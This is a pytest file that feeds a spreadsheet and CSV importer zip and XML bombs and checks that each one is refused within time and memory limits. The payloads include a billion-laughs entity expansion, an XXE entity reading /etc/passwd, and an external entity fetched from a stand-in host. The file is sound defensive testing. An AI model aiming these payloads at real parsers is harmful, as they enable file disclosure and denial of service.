"""Small files that unfold: each is refused with a sentence, in little time and memory.

All go through one process in turn, so that its peak is the worst of them all.
"""

import json
import os
import subprocess
import sys
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from tests.unit.roster_examples import workbook

ROOT = Path(__file__).parents[2]
FUNCTION_MB = 512
SECONDS = 20
"""Of all files together, where each of the worst three took a minute and more."""
PARTS = ("_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/workbook.xml", "xl/texts.xml")
LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
)
XML_BOMBS = {
    "laughs": f"{LAUGHS}]>",
    "reads-a-file": '<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
    "asks-a-server": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x"> %p;]>',
}
DAMAGED, NO_HEADING, NO_LINE = "文件已损坏", "没有找到表头", "内容过长"
SHEETS = "工作表过多"

_PROGRAM = """
import json, resource, sys
from pathlib import Path
from chalicelib.core.errors import Refused
from chalicelib.core.tables import read_rows
from chalicelib.membership.roster_columns import LAYOUT as ROSTER
from chalicelib.payout.results import LAYOUT as RESULTS
from tests.memory import peak_mb

resource.setrlimit(resource.RLIMIT_CPU, (int(sys.argv[2]), int(sys.argv[2])))
said = {}
for path in sorted(Path(sys.argv[1]).iterdir()):
    for layout in (ROSTER, RESULTS):
        try:
            said[path.name] = f"{sum(1 for _ in read_rows(path, layout))} rows"
        except Refused as refused:
            said[path.name] = refused.message
print(json.dumps({"said": said, "peak": peak_mb()}))
"""


def changed(source: Path, target: Path, part: str, old: str, new: str) -> None:
    """Copy a package with one part changed."""
    with ZipFile(source) as good, ZipFile(target, "w", ZIP_DEFLATED) as bad:
        for name in good.namelist():
            text = good.read(name).decode()
            bad.writestr(name, text.replace(old, new, 1) if name == part else text)


def bombs(folder: Path) -> dict[str, str]:
    """Write every bomb; return what is to be said of each."""
    said = {}
    plain = workbook(folder.parent / "plain.xlsx", "<row/>" * 2000)
    for name, prologue in XML_BOMBS.items():
        inner = workbook(folder / f"{name}-sheet", "<row>&a9;</row>", prologue=prologue)
        said[inner.name] = DAMAGED
        for number, part in enumerate(PARTS):
            changed(plain, folder / f"{name}-{number}", part, "<", f"{prologue}<")
            said[f"{name}-{number}"] = DAMAGED
    many = "".join(f'<sheet name="{n}" r:id="r0"/>' for n in range(50_000))
    changed(plain, folder / "sheets", "xl/workbook.xml", "<sheets>", f"<sheets>{many}")
    salt = os.urandom(200_000).hex()  # else it would be refused for its ratio, unopened
    endless = {"tag": f"<row x='{salt}", "comment": f"<!--{salt}"}
    for name, start in endless.items():
        workbook(folder / name, start + "a" * 30_000_000)
    cells = "<c t='inlineStr'><is><t>x</t></is></c>"
    workbook(folder / "columns", f"<row>{cells * 16_384}</row>" * 20)
    workbook(folder / "far", "<row><c r='ZZZZZZZZZZZZ1'><v>1</v></c></row>")
    workbook(folder / "deep", "".join(f"<a{n}>" for n in range(200_000)))
    (folder / "cell.csv").write_bytes(b"x" * 20_000_000)
    (folder / "columns.csv").write_bytes(b"," * 20_000_000)
    (folder / "wide.csv").write_bytes((b"," * 1_000_000 + b"\n") * 20)
    return said | {
        "sheets": SHEETS,
        "tag": DAMAGED,
        "comment": DAMAGED,
        "columns": NO_HEADING,
        "far": NO_HEADING,
        "deep": DAMAGED,
        "cell.csv": NO_LINE,
        "columns.csv": NO_LINE,
        "wide.csv": NO_HEADING,
    }


def test_each_is_refused_with_a_sentence(tmp_path: Path) -> None:
    folder = tmp_path / "bombs"
    folder.mkdir()
    expected = bombs(folder)
    done = subprocess.run(
        [sys.executable, "-c", _PROGRAM, str(folder), str(SECONDS)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, f"killed after {SECONDS} s of work: {done.stderr}"
    report = json.loads(done.stdout)
    wrong = {name: said for name, said in report["said"].items() if expected[name] not in said}
    assert wrong == {}
    assert len(report["said"]) == len(expected) == 24
    assert report["peak"] < FUNCTION_MB * 0.8


@pytest.mark.parametrize("sheets", [1, 100])
def test_a_workbook_of_several_sheets_is_read(tmp_path: Path, sheets: int) -> None:
    """The limit is far from what people keep in one file."""
    from chalicelib.core.workbook import sheets as read

    plain = workbook(tmp_path / "plain.xlsx", "<row/>")
    more = '<sheet name="x" r:id="r0"/>' * (sheets - 1)
    changed(plain, tmp_path / "more.xlsx", "xl/workbook.xml", "<sheets>", f"<sheets>{more}")
    with (tmp_path / "more.xlsx").open("rb") as stream:
        assert sum(1 for _ in read(stream)) == sheets
